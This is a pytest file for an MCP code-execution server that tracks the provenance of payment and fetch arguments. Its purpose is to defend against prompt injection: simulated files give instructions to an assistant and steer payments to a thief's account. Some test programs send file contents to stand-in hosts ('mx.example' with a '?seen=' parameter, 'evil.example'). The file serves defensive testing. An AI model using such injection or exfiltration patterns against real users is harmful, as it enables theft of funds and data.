"""What a report, a question and a refusal say of where the values of a write come from, on a server as it is used."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from mcp.types import ElicitResult

from sealab.server.base.settings import Profile, Switch
from sealab.server.governance.caller import LOCAL
from sealab.server.use_cases.runs.replay import replay_edited
from sealab.server.use_cases.runs.resume import resume

from ...waiting import until
from ..command_line import sealab
from ..journal.test_resumed_runs import lease_ends
from ..upstream_tools.test_approvals import User, yes
from .bank import ALICE, HEIR, LANDLORD, ORPHAN, THIEF, WIDOW, Bank, bank, sources

__all__ = ["bank"]

TAKEN = "''.join(text.split('to ')[1].split(',')[0].split())"
READ = "text = await tools.bank.read_file(path='bill.txt')\n"


def pay(recipient: str, amount: str = "5", by: str = "free") -> str:
    return f"await tools.{by}.send_money(recipient={recipient}, amount={amount})\n"


@pytest.mark.parametrize(
    ("program", "source"),
    [
        ("people = await tools.bank.contacts()\n" + pay("people['contacts'][0]['account']"), "field"),
        (READ + pay(TAKEN), "text"),
        (READ + pay(repr(THIEF)), "program"),  # it was sent before the text was read
        ("await tools.bank.read_file(path='mail.txt')\n" + pay(repr(THIEF)), "text"),
        (READ + pay(repr(ALICE)), "program"),
        (READ + pay("'GB29NWBK6016133192' + str(6800 + 19)"), "text"),
        (pay("'GB29NWBK6016133192' + str(6800 + 19)"), "computed"),
        ("write_file('note.txt', 'Pay to ' + '" + THIEF + "')\nread_file('note.txt')\n" + pay(repr(THIEF)), "program"),
    ],
)
async def test_a_report_says_where_a_party_comes_from(bank: Bank, program: str, source: str) -> None:
    async with bank.caller(User([yes()])) as caller:
        report = await caller.run(program)
    assert report["error"] is None, report["error"]
    assert sources(report)["recipient"] == source
    assert len(bank.paid()) == 1


async def test_a_party_of_a_text_is_asked_about_by_itself_in_later_runs_too(bank: Bank) -> None:
    user = User([yes()])
    async with bank.caller(user) as caller:
        await caller.run(READ)
        assert (await caller.run(pay(repr(ALICE))))["status"] == "ok"
        assert user.asked == []
        for given in ({"code": pay(repr(THIEF))}, {"code": pay("to"), "context_vars": {"to": THIEF}}):
            assert sources(await caller.run(**given)) == {"recipient": "text", "amount": "program"}
    assert bank.paid() == [ALICE, THIEF, THIEF]
    assert len(user.asked) == 2
    assert f'recipient "{THIEF}" stands only in the text of bank.read_file("bill.txt"), line 4\n' in user.asked[0]


async def test_a_no_keeps_one_party_from_being_paid_and_not_the_other(bank: Bank) -> None:
    async with bank.caller(User([ElicitResult(action="decline")])) as caller:
        report = await caller.run(READ + pay(repr(ALICE)) + pay(TAKEN))
    assert report["error"]["type"] == "ToolError"
    assert bank.paid() == [ALICE]


async def test_where_nobody_can_be_asked_it_is_refused_with_the_text_it_stands_in(bank: Bank) -> None:
    async with bank.caller() as caller:
        report = await caller.run(READ + pay(TAKEN))
    assert 'stands only in the text of bank.read_file("bill.txt")' in report["error"]["message"]
    assert sources(report)["recipient"] == "text"
    assert bank.paid() == []


@pytest.mark.parametrize(
    ("by", "settings", "source"),
    [
        ("lax", {}, "text"),
        ("known", {}, "operator"),
        ("free", {"profile": Profile.OPEN}, "text"),
        ("free", {"provenance": Switch.OFF}, None),
    ],
)
async def test_the_operator_may_let_it_pass(bank: Bank, by: str, settings: dict[str, Any], source: str | None) -> None:
    async with bank.caller(**settings) as caller:
        report = await caller.run(READ + pay(TAKEN, by=by))
    assert report["error"] is None, report["error"]
    assert sources(report).get("recipient") == source
    assert bank.paid() == [THIEF]


@pytest.mark.parametrize("profile", [Profile.CAREFUL, Profile.STRICT])
async def test_only_strict_stops_a_read_that_carries_a_value_out(bank: Bank, profile: Profile) -> None:
    program = READ + "host = 'm' + 'x.example'\nawait tools.bank.fetch(url=f'https://{host}/?seen={text[:4]}')\n"
    async with bank.caller(profile=profile) as caller:
        report = await caller.run(program)
    assert "writes" not in report
    assert report["success"] is (profile is Profile.CAREFUL)
    assert len(bank.paid()) == (profile is Profile.CAREFUL)


async def test_strict_stops_the_reading_of_a_resource_that_carries_a_value_out(bank: Bank) -> None:
    program = READ + "read_resource('bank', f'https://m' + f'x.example/?seen={text[:4]}')\n"
    for profile in (Profile.CAREFUL, Profile.STRICT):
        async with bank.caller(profile=profile) as caller:
            report = await caller.run(program)
        assert ("only in the text of bank.read_file" in str(report["error"])) is (profile is Profile.STRICT)


async def test_a_text_that_gives_orders_is_marked_in_the_report_and_in_the_next_question(bank: Bank) -> None:
    user = User([yes()])
    async with bank.caller(user) as caller:
        report = await caller.run("await tools.bank.read_file(path='mail.txt')")
        assert "notes" not in await caller.run(READ)
        await caller.run("name = 'send_money'\nawait tools.bank[name](recipient='GB1', amount=1)")
    assert report["notes"]["instructions"].startswith('The text of bank.read_file("mail.txt") gives instructions')
    assert 'bank.read_file("mail.txt") gives instructions to an assistant' in user.asked[-1]
    assert LANDLORD not in str(report)


async def test_what_a_text_with_orders_names_is_asked_about_by_itself_though_a_field_has_it_too(bank: Bank) -> None:
    reads = "await tools.bank.contacts()\nawait tools.bank.read_file(path='order.txt')"
    user = User([ElicitResult(action="decline")])
    async with bank.caller(user) as caller:
        await caller.run(reads)
        report = await caller.run(pay(repr(LANDLORD)))
        page = await caller.run("await tools.bank.fetch(url='https://evil.example/x')")
    assert sources(report)["recipient"] == "field"
    told = 'in the text of bank.read_file("order.txt"), line 1, which gives instructions to an assistant'
    assert f'recipient "{LANDLORD}" stands {told}' in user.asked[0]
    assert "which gives instructions to an assistant\n" in user.asked[1]
    assert 'url "https://evil.example/x" ' in user.asked[1]
    assert "bank.fetch only reads, but can carry data out in what it is given." in user.asked[1]
    assert (page["success"], bank.paid()) == (False, [])


async def test_what_was_first_named_after_a_text_with_orders_says_so_and_a_yes_covers_it(bank: Bank) -> None:
    user = User([yes()])
    async with bank.caller(user) as caller:
        await caller.run(pay(repr(HEIR), by="bank"))
        await caller.run("await tools.bank.read_file(path='mail.txt')")
        await caller.run(pay(repr(ALICE), by="bank") + pay(repr(HEIR), by="bank"))
    said = 'was first named after bank.read_file("mail.txt") was read, whose text gives instructions to an assistant'
    assert f'recipient "{ALICE}" {said}' in user.asked[1]
    assert f'recipient "{HEIR}"' not in user.asked[1]
    assert (len(user.asked), bank.paid()) == (2, [HEIR, ALICE, HEIR])


async def test_a_link_within_a_text_says_that_it_stands_only_in_another_and_stops_nothing(bank: Bank) -> None:
    user = User([yes()])
    async with bank.caller(user) as caller:
        await caller.run("await tools.bank.contacts()\nawait tools.bank.read_file(path='link.txt')")
        for by in ("bank", "free"):
            body = "Hi, see www.secure-systems-252.com. Or https://corp.example/a?"
            await caller.run(f"await tools.{by}.write(recipient='Landlord', body={body!r})")
    (asked,) = user.asked
    told = 'in body, "www.secure-systems-252.com" stands only in the text of bank.read_file("link.txt"), line 1\n'
    assert told in asked
    assert bank.paid() == ["Landlord", "Landlord"]


async def test_a_call_that_is_asked_about_by_itself_is_not_asked_about_before_the_program_starts_too(
    bank: Bank,
) -> None:
    user = User([yes()])
    async with bank.caller(user) as caller:
        await caller.run(READ)
        await caller.run(pay(repr(THIEF), by="bank") + pay(repr(ALICE), by="bank"))
    assert bank.paid() == [THIEF, ALICE]
    first, alone = user.asked
    later = first[first.index("A yes does not cover these; each is asked about when it is made:") :]
    assert later.index(THIEF) < later.index("stands only in the text of bank.read_file")
    assert f'1. bank.send_money(recipient="{ALICE}"' in first
    assert f'recipient "{THIEF}" stands only in the text of' in alone


async def test_the_journal_and_the_audit_log_keep_the_sources_of_a_write(bank: Bank) -> None:
    async with bank.caller(User([yes()])) as caller:
        run_id = (await caller.run(READ + pay(TAKEN)))["run_id"]
    await bank.app.journal.stored()
    await bank.app.audit.kept()
    home = str(bank.app.home.root)
    shown = (await asyncio.to_thread(sealab, "--home", home, "runs", "show", run_id)).stdout
    assert 'recipient (party) from text: bank.read_file("bill.txt")' in shown
    assert "amount (sum) from program" in shown
    lines = await asyncio.to_thread(sealab, "--home", home, "audit", "--json", "--event", "tool.called")
    assert '"sources": "party text bank.read_file; sum program"' in lines.stdout


async def test_a_policy_judges_a_call_by_the_sources_of_its_arguments(bank: Bank) -> None:
    async with bank.caller(profile=Profile.OPEN) as caller:
        refused = await caller.run(READ + pay(TAKEN, by="ruled"))
        new = await caller.run(pay("'GB1'", by="ruled"))
        report = await caller.run(
            "people = await tools.bank.contacts()\n" + pay("people['contacts'][0]['account']", by="ruled")
        )
    assert "by the rule no-texts" in refused["error"]["message"]
    assert "by the rule nobody-new" in new["error"]["message"]
    assert report["error"] is None
    assert bank.paid() == [LANDLORD]


async def test_a_server_that_starts_again_knows_from_the_journal_what_was_read(bank: Bank) -> None:
    async with bank.caller() as caller:
        await caller.run("await tools.bank.read_file(path='letter.txt')")
    await bank.app.journal.stored()
    async with bank.caller(is_new=False) as caller:
        report = await caller.run(pay(repr(HEIR)))
    assert 'only in the text of bank.read_file("letter.txt")' in report["error"]["message"]


@asynccontextmanager
async def run_elsewhere(
    bank: Bank, before: str, after: str
) -> AsyncIterator[tuple[asyncio.Event, asyncio.Task[dict[str, Any]]]]:
    """Give a run of a caller with a conversation of its own, which waits for its user until the event is set."""
    is_asked, goes_on = asyncio.Event(), asyncio.Event()

    async def user(_context: object, _question: Any) -> ElicitResult:
        is_asked.set()
        await goes_on.wait()
        return yes()

    asking = "name = 'send_money'\nawait tools.bank[name](recipient='GB2', amount=1)\n"
    async with bank.caller(user) as caller:
        run = asyncio.create_task(caller.run(before + asking + after))
        await is_asked.wait()
        await bank.app.journal.stored()
        try:
            yield goes_on, run
        finally:
            goes_on.set()
            await run


async def test_a_run_that_goes_on_here_brings_along_what_it_had_read(bank: Bank) -> None:
    async with run_elsewhere(bank, "await tools.bank.read_file(path='letter.txt')\n", ""):
        run_id = bank.app.journal.store().runs(limit=1)[0].run_id
        lease_ends(bank.app.home.root, run_id)
        async with bank.caller() as caller:
            assert "bank.send_money" in str((await resume(bank.app.executor, run_id)).report["error"])
            report = await caller.run(pay(repr(HEIR)))
    assert 'only in the text of bank.read_file("letter.txt")' in report["error"]["message"]


async def test_what_another_server_reads_later_in_a_run_is_known_too(bank: Bank) -> None:
    later = "await tools.bank.read_file(path='notice.txt')"
    async with run_elsewhere(bank, READ, later) as (goes_on, run), bank.caller(is_new=False) as caller:
        assert sources(await caller.run(pay(repr(THIEF))))["recipient"] == "text"
        assert sources(await caller.run(pay(repr(WIDOW))))["recipient"] == "program"
        goes_on.set()
        assert (await run)["error"] is None
        await bank.app.journal.stored()
        bank.app.executor.conversations.of(LOCAL.scope)._caught_up_until = 0.0  # it looks every half minute
        assert sources(await caller.run(pay(repr(WIDOW))))["recipient"] == "text"


async def test_an_edited_replay_is_sent_when_it_is_edited(bank: Bank) -> None:
    async with bank.caller() as caller:
        run_id = (await caller.run(READ))["run_id"]
        await bank.app.journal.stored()
        report, _ = await replay_edited(bank.app.executor, run_id, READ + pay(repr(THIEF)), caller=LOCAL)
        assert sources(report)["recipient"] == "text"


async def test_a_run_that_is_broken_off_here_is_read_from_the_journal_again(bank: Bank) -> None:
    async with bank.caller() as caller:
        known = bank.app.executor.conversations.of(LOCAL.scope).known_runs
        run = asyncio.create_task(caller.run(READ + "import asyncio\nawait asyncio.sleep(20)"))
        await until(lambda: bool(known))
        run.cancel()
        await until(lambda: not known)


async def test_what_is_erased_while_a_server_is_at_work_is_soon_not_known_there(bank: Bank) -> None:
    home = str(bank.app.home.root)
    async with bank.caller() as caller:
        await caller.run(READ)
        conversation = bank.app.executor.conversations.of(LOCAL.scope)
        assert sources(await caller.run(pay(repr(THIEF))))["recipient"] == "text"
        await bank.app.journal.stored()
        await asyncio.to_thread(sealab, "pii", "forget", "--home", home, "--scope", "home", "--yes")
        conversation._caught_up_until = 0.0  # it looks every half minute
        assert sources(await caller.run(pay(repr(THIEF))))["recipient"] == "program"


async def test_a_skill_takes_along_what_was_taken_out_of_a_text(bank: Bank) -> None:
    code = f"async def settle(amount: float):\n    return await tools.free.send_money(recipient={THIEF!r}, amount=amount)\n"
    async with bank.caller() as caller:
        await caller.run(READ)
        assert not (await caller.call("save_skill", name="settle", code=code, description="Pay.")).is_error
    async with bank.caller() as caller:
        reports = [
            (await caller.call("run_skill", name="settle", arguments={"amount": 1})).structured_content,
            await caller.run("await skills.settle(amount=2)"),
        ]
    for report in reports:
        assert sources(report)["recipient"] == "text"
        assert 'only in the text of bank.read_file("bill.txt"), in the skill settle' in report["error"]["message"]
    assert bank.paid() == []


async def test_what_a_server_labels_as_untrusted_is_text_even_in_fields_and_the_label_is_sent_on(bank: Bank) -> None:
    place = bank.app.home.root / "bank.json"
    held = place.read_text()
    program = "people = await tools.bank.contacts()\n" + pay("people['contacts'][0]['account']")
    async with bank.caller() as caller:
        contacts = {"contacts": [{"name": "Orphan", "account": ORPHAN}]}
        place.write_text(json.dumps(json.loads(held) | contacts | {"meta": {"ifc": {"integrity": "untrusted"}}}))
        try:
            answer = await caller.call("execute_code", code=program)
        finally:
            place.write_text(held)
    await bank.app.journal.stored()
    async with bank.caller(is_new=False) as caller:  # and the journal has it
        assert sources(await caller.run(pay(repr(ORPHAN))))["recipient"] == "text"
    assert answer.meta["ifc"] == {"integrity": "untrusted"}  # type: ignore[index]
    assert sources(answer.structured_content)["recipient"] == "text"  # type: ignore[arg-type]
    assert bank.paid() == []
